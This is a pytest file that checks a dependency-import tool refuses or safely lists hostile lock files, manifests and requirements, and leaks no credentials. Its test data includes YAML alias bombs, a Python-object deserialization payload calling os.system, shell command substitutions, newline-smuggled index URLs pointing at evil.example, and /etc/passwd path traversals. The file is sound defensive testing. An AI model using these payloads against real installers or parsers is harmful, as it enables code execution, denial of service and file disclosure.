"""Hostile files given to `bubble import`: one error or one listing; nothing run, read or leaked."""

from __future__ import annotations

import json
import os
from typing import TYPE_CHECKING

import pytest

from bubble.projects.reading import read_project
from conftest import snapshot
from support.foreign_locks import PIPFILE, POETRY, PYPROJECT
from support.told import one_error

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from conftest import Result

    Bubble = Callable[..., Result]

HEX = "0" * 64
CANARY = "s3cr3t-canary"
BILLION = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(9)
)


def uv(package: str = "", *, root: str = "", source: str = "") -> str:
    """Return a uv.lock of one package `evil` with more in its table."""
    source = source or 'source = { registry = "https://index.example/simple" }'
    return (
        f'version = 1\n{root}\n[[package]]\nname = "evil"\nversion = "1.0"\n{source}\n{package}\n'
        '[[package]]\nname = "shop"\nversion = "0.1.0"\nsource = { virtual = "." }\n'
        'dependencies = [{ name = "evil" }]\n'
    )


def wheel(url: str, digest: str = HEX, extra: str = "") -> str:
    return f'wheels = [{{ url = {json.dumps(url)}, hash = "sha256:{digest}"{extra} }}]'


GOOD = "https://files.example/evil-1.0-py3-none-any.whl"


def pdm(entry: str) -> str:
    return (
        '[metadata]\ngroups = ["default"]\nstrategy = ["inherit_metadata", "static_urls"]\n'
        f'lock_version = "4.5.0"\n[[package]]\nname = "evil"\nversion = "1.0"\n'
        f'groups = ["default"]\n{entry}\n'
    )


def poetry(entry: str) -> str:
    return (
        f'[[package]]\nname = "evil"\nversion = "1.0"\noptional = false\ngroups = ["main"]\n{entry}'
        '\n[metadata]\nlock-version = "2.1"\npython-versions = "*"\n'
    )


def pipfile(entry: dict[str, object], **meta: object) -> str:
    return json.dumps({"_meta": {"sources": [], **meta}, "default": {"evil": entry}})


# what each is → its name, its text. All are refused: exit 2, and nothing is written
REFUSED: dict[str, tuple[str, str | bytes]] = {
    "yaml: a billion laughs": ("environment.yml", f"{BILLION}dependencies: *j\n"),
    "yaml: an alias to itself": ("environment.yml", "dependencies: &a [*a]\n"),
    "yaml: merge keys": ("environment.yml", "a: &a {b: c}\nd: {<<: *a}\ndependencies: [x]\n"),
    "yaml: an object of Python's": (
        "environment.yml",
        "dependencies: !!python/object/apply:os.system ['touch canary']\n",
    ),
    "yaml: a tag": ("environment.yml", "dependencies: [!!binary aGk=]\n"),
    "yaml: depth": ("environment.yml", "dependencies: " + "[" * 50_000),
    "yaml: depth by lines": ("environment.yml", "".join(" " * i + "- \n" for i in range(800))),
    "yaml: a million entries": ("environment.yml", "dependencies:\n" + "- a\n" * 200_000),
    "yaml: a long line": ("environment.yml", "dependencies: [" + "a," * 200_000 + "]"),
    "yaml: 50 MB": ("environment.yml", "dependencies:\n" + "- numpy\n" * 6_000_000),
    "yaml: two documents": ("environment.yml", "dependencies: [a]\n---\ndependencies: [b]\n"),
    "yaml: not UTF-8": ("environment.yml", b"dependencies: [\xff\xfe]\n"),
    "yaml: control characters": ("environment.yml", "dependencies: [a\x1b[31m]\n"),
    "yaml: a key that is a list": ("environment.yml", "[a, b]: c\ndependencies: [x]\n"),
    "yaml: pip's line is a program": (
        "environment.yml", "dependencies: [{pip: ['$(touch canary)']}]\n"),
    "toml: keys of a thousand parts": ("Pipfile", "[packages]\n" + ".".join("a" * 5000) + " = 1"),
    "toml: depth": ("Pipfile", "[packages]\na = " + "[" * 50_000),
    "toml: a number of a million digits": ("Pipfile", "[packages]\na = " + "9" * 500_000),
    "toml: no TOML": ("Pipfile", "[[[["),
    "toml: packages are no table": ("Pipfile", "packages = 3\n"),
    "json: depth": ("Pipfile.lock", "[" * 100_000),
    "json: a list": ("Pipfile.lock", "[]"),
    "json: a number of a million digits": ("Pipfile.lock", '{"_meta": ' + "9" * 500_000 + "}"),
    "50 MB": ("uv.lock", "#" * (50 << 20)),
    "uv: another version": ("uv.lock", uv().replace("version = 1\n", "version = 2\n", 1)),
    "uv: no hash": ("uv.lock", uv(f"wheels = [{{ url = {json.dumps(GOOD)} }}]")),
    "uv: an md5 alone": ("uv.lock", uv(wheel(GOOD).replace(f"sha256:{HEX}", "md5:" + "0" * 32))),
    "uv: a short hash": ("uv.lock", uv(wheel(GOOD, "00"))),
    "uv: no files": ("uv.lock", uv()),
    "uv: another package's file": (
        "uv.lock", uv(wheel("https://files.example/good-1.0-py3-none-any.whl"))),
    "uv: another version's file": (
        "uv.lock", uv(wheel("https://files.example/evil-2.0-py3-none-any.whl"))),
    "uv: a file that is none": ("uv.lock", uv(wheel("https://files.example/evil.sh"))),
    "uv: a marker that is none": (
        "uv.lock",
        uv(wheel(GOOD)).replace('{ name = "evil" }', '{ name = "evil", marker = "; rm -rf" }'),
    ),
    "uv: needs what isn't there": ("uv.lock", uv(wheel(GOOD)).replace('"evil" }', '"worse" }')),
    "uv: no root": ("uv.lock", uv(wheel(GOOD)).replace('virtual = "."', 'virtual = "x"')),
    "uv: a name of a path": ("uv.lock", uv(wheel(GOOD)).replace('"evil"', '"../evil"')),
    "poetry: no hash": ("poetry.lock", poetry("files = [{file = 'evil-1.0.tar.gz'}]")),
    "poetry: no lock": ("poetry.lock", "[metadata]\n"),
    "poetry: no version": ("poetry.lock", poetry("").replace('version = "1.0"\n', "", 1)),
    "pdm: no lock": ("pdm.lock", "[metadata]\n"),
    "pdm: no hash": ("pdm.lock", pdm("files = [{url = 'https://f.example/evil-1.0.tar.gz'}]")),
    "pipfile: a version that is none": (
        "Pipfile.lock", pipfile({"version": "==1.0\n--index-url x", "hashes": [f"sha256:{HEX}"]})),
    "pipfile: a name that is a line": (
        "Pipfile.lock",
        json.dumps({"_meta": {}, "default": {"a\n-i http://evil.example/x": {
            "version": "==1.0", "hashes": [f"sha256:{HEX}"]}}}),
    ),
    "poetry: a name that is a line": (
        "poetry.lock", poetry("").replace('"evil"', '"a\\n-i http://evil.example"')),
    "pipfile: no version": ("Pipfile.lock", pipfile({"hashes": [f"sha256:{HEX}"]})),
    "pipfile: a hash that is none": (
        "Pipfile.lock", pipfile({"version": "==1.0", "hashes": ["sha256:0\n--index-url x"]})),
    "pipfile: no hash": ("Pipfile.lock", pipfile({"version": "==1.0"})),
    "requirements: a program": ("requirements.txt", "$(touch canary)\n"),
    "requirements: names what isn't there": ("requirements.txt", "-r other.txt\n"),
    "requirements: HTML": ("requirements.txt", "<!doctype html>\n"),
    "requirements: zero bytes": ("requirements.txt", "a\0b\n"),
    "a lock of the standard's": ("pylock.toml", 'lock-version = "1.0"\n'),
    "a setup.py": ("setup.py", "import os; os.system('touch canary')\n"),
}  # fmt: skip

# what each is → its name, its text. All are taken, with what is bad listed and nowhere else
LISTED: dict[str, tuple[str, str]] = {
    "uv: file://": ("uv.lock", uv(wheel("file:///etc/passwd/evil-1.0-py3-none-any.whl"))),
    "uv: ftp": ("uv.lock", uv(wheel("ftp://files.example/evil-1.0-py3-none-any.whl"))),
    "uv: a path out": (
        "uv.lock",
        uv(f'wheels = [{{ path = "../../evil-1.0-py3-none-any.whl", hash = "sha256:{HEX}" }}]'),
    ),
    "uv: a directory out": ("uv.lock", uv(source='source = { directory = "../../etc" }')),
    "uv: a directory from the root": ("uv.lock", uv(source='source = { editable = "/etc" }')),
    "uv: git of a file": ("uv.lock", uv(source='source = { git = "file:///etc#0123" }')),
    "poetry: a directory out": (
        "poetry.lock", poetry('[package.source]\ntype = "directory"\nurl = "../../etc"')),
    "poetry: a file": (
        "poetry.lock", poetry('[package.source]\ntype = "file"\nurl = "/etc/passwd"')),
    "poetry: git of a path": (
        "poetry.lock", poetry('[package.source]\ntype = "git"\nurl = "/etc"')),
    "pdm: a path out": ("pdm.lock", pdm('path = "../../etc"')),
    "pdm: file://": ("pdm.lock", pdm("files = [{url = 'file:///etc/passwd', hash = 'sha256:0'}]")),
    "pipfile: a path out": ("Pipfile.lock", pipfile({"path": "../../etc"})),
    "pipfile: file://": ("Pipfile.lock", pipfile({"file": "file:///etc/passwd"})),
    "pipenv: a group that is a path": (
        "Pipfile", '[packages]\na = "*"\n["../../evil.example"]\nb = "*"\n'),
    "pipenv: a group that is a Python": ("Pipfile", '[packages]\na = "*"\n["3.11"]\nb = "*"\n'),
    "pipenv: groups of one name": (
        "Pipfile", '[packages]\na = "*"\n[Ci_Run]\nb = "*"\n[ci-run]\nc = "*"\n'),
    "pipenv: a group called default": ("Pipfile", '[packages]\na = "*"\n[default]\nb = "*"\n'),
    "conda: -e of the root": ("environment.yml", "dependencies: [{pip: ['-e /etc']}]\n"),
    "conda: -r out": ("environment.yml", "dependencies: [{pip: ['-r ../../etc/passwd']}]\n"),
    "conda: file://": ("environment.yml", "dependencies: [{pip: ['x @ file:///etc/x.whl']}]\n"),
    "conda: an option": ("environment.yml", "dependencies: [{pip: ['--target /etc']}]\n"),
    "requirements: -r out": ("requirements.txt", "-r ../../../../etc/passwd\n"),
    "requirements: -r of the web": ("requirements.txt", "-r http://evil.example/x.txt\n"),
}  # fmt: skip

BESIDE = {
    "uv.lock": ("pyproject.toml", PYPROJECT.split("[dependency-groups]")[0]),
    "pdm.lock": ("pyproject.toml", PYPROJECT.split("[dependency-groups]")[0]),
    "poetry.lock": ("pyproject.toml", POETRY),
    "Pipfile.lock": ("Pipfile", PIPFILE),
}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    directory = tmp_path / "shop"
    directory.mkdir()
    return directory


def lay(project: Path, name: str, text: str | bytes) -> None:
    (project / name).write_bytes(text if isinstance(text, bytes) else text.encode())
    beside, content = BESIDE.get(name, ("", ""))
    if beside:
        (project / beside).write_text(content)


@pytest.mark.parametrize("case", REFUSED)
def test_a_hostile_file_is_refused_in_one_sentence_and_nothing_is_written(
    case: str, project: Path, bubble: Bubble, canary: str
) -> None:
    name, text = REFUSED[case]
    lay(project, name, text)
    before = snapshot(str(project))
    done = bubble("import", name, cwd=project)
    assert done.status == 2, done.err[-2000:] + done.out[-500:]
    message, _ = one_error(done.err)
    assert len(message) < 700
    assert done.out == ""
    assert snapshot(str(project)) == before
    assert canary


@pytest.mark.parametrize("case", LISTED)
def test_what_means_this_machines_files_or_the_web_is_listed_and_nowhere_else(
    case: str, project: Path, bubble: Bubble
) -> None:
    name, text = LISTED[case]
    lay(project, name, text)
    done = bubble("import", name, "--json", cwd=project)
    assert done.status == 0, done.err + done.out
    data = done.json["data"]
    assert data["left"], data
    assert data["locked"] is False
    for file in data["files"]:
        rest = [line for line in file["text"].splitlines() if not line.startswith("#")]
        for word in ("etc", "file:", "ftp:", "evil.example", ".."):
            assert word not in "\n".join(rest), file
        assert os.path.dirname(file["path"]) == os.path.realpath(project)
    read_project(os.path.realpath(project))
    assert "root:" not in done.out, "the content of a file elsewhere"


# credentials in every place that a file has for them
CONDA_SECRETS = f"""\
channels: ['https://me:{CANARY}@c.example/x', 'https://c.example/t/{CANARY}/x']
dependencies:
  - https://me:{CANARY}@c.example/x.conda
  - pip:
    - --index-url https://me:{CANARY}@i.example/simple
    - git+https://{CANARY}@g.example/x.git#egg=x
    - y @ https://f.example/y-1.0-py3-none-any.whl?sig={CANARY}
    - --find-links https://me:{CANARY}@f.example/
"""
PIPFILE_SECRETS = f"""\
[[source]]
name = "a"
url = "https://me:{CANARY}@i.example/simple"
[packages]
x = {{git = "https://{CANARY}@g.example/x.git"}}
y = {{file = "https://f.example/y-1.0.tar.gz?sig={CANARY}"}}
"""
SECRETS: dict[str, tuple[str, str]] = {
    "conda": ("environment.yml", CONDA_SECRETS),
    "pipfile": ("Pipfile", PIPFILE_SECRETS),
    "pipfile's lock": (
        "Pipfile.lock",
        pipfile(
            {"version": "==1.0", "hashes": [f"sha256:{HEX}"], "index": "a"},
            sources=[{"name": "a", "url": f"https://me:{CANARY}@i.example/simple"}],
        ),
    ),
    "uv": (
        "uv.lock",
        uv(
            wheel(f"https://me:{CANARY}@files.example/evil-1.0-py3-none-any.whl"),
            source=f'source = {{ registry = "https://me:{CANARY}@index.example/simple" }}',
        ),
    ),
    "uv's git": (
        "uv.lock",
        uv(source=f'source = {{ git = "https://{CANARY}@g.example/x?rev=1#{"1" * 40}" }}'),
    ),
    "poetry": (
        "poetry.lock",
        poetry(
            f'files = [{{file = "evil-1.0.tar.gz", hash = "sha256:{HEX}"}}]\n[package.source]\n'
            f'type = "legacy"\nurl = "https://me:{CANARY}@i.example/simple"\nreference = "a"'
        ),
    ),
    "pdm": (
        "pdm.lock",
        pdm(
            f'files = [{{url = "https://me:{CANARY}@f.example/evil-1.0.tar.gz", '
            f'hash = "sha256:{HEX}"}}]'
        ),
    ),
    "a broken line": ("requirements.txt", f"x @@ https://me:{CANARY}@g.example/x.git\n"),
}


@pytest.mark.parametrize("case", SECRETS)
def test_no_credential_gets_into_a_manifest_a_lock_or_a_message(
    case: str, project: Path, bubble: Bubble
) -> None:
    name, text = SECRETS[case]
    lay(project, name, text)
    for options in (("--dry-run",), ("--json", "--dry-run"), ()):
        done = bubble("import", name, *options, cwd=project)
        assert done.status in {0, 2}
        assert CANARY not in done.out + done.err
    for path in project.iterdir():
        if path.name not in {name, BESIDE.get(name, ("",))[0]}:
            assert CANARY not in path.read_text(), path


@pytest.mark.parametrize("name", ["environment.yml", "Pipfile", "requirements.txt", "uv.lock"])
def test_what_is_no_regular_file_isnt_opened(name: str, project: Path, bubble: Bubble) -> None:
    os.mkfifo(project / name)
    done = bubble("import", name, cwd=project)
    assert done.status == 2
    one_error(done.err)
    os.unlink(project / name)
    os.symlink("/dev/zero", project / name)
    assert bubble("import", name, cwd=project).status == 2


def test_a_manifest_that_is_a_link_is_neither_followed_nor_replaced(
    project: Path, bubble: Bubble, canary: str
) -> None:
    (project / "environment.yml").write_text("dependencies: [numpy]\n")
    os.symlink(f"{canary}/file", project / "bubble.toml")
    for options in ((), ("--force",)):
        done = bubble("import", "environment.yml", *options, cwd=project)
        assert done.status == 2
        assert "no regular file" in one_error(done.err)[0]
    assert os.path.islink(project / "bubble.toml")
